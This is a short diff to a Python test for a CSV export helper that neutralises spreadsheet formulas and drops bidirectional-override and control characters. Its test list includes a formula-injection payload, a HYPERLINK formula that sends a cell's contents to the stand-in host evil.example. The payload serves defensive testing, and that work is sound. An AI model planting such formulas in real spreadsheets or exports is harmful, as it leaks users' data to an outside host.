@@ -168,7 +168,9 @@ FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1 more", "-2+3
 
 def test_csv_cell_neutralises_formulas_only():
     for text in FORMULAS:
-        assert csv_cell(text) == "'" + text
+        assert csv_cell(text) == "'" + clean_text(text)  # CR becomes a newline; the cell is still inert
+    assert csv_cell("Name\u202e x\x07") == "Name x"  # bidi overrides and controls dropped
+    assert csv_cell("  =1+1") == "'  =1+1"
     for kept in ("-0.50", "0.80", "-3", 12, -0.5, "plain text", "a = b", ""):
         assert csv_cell(kept) == kept
 
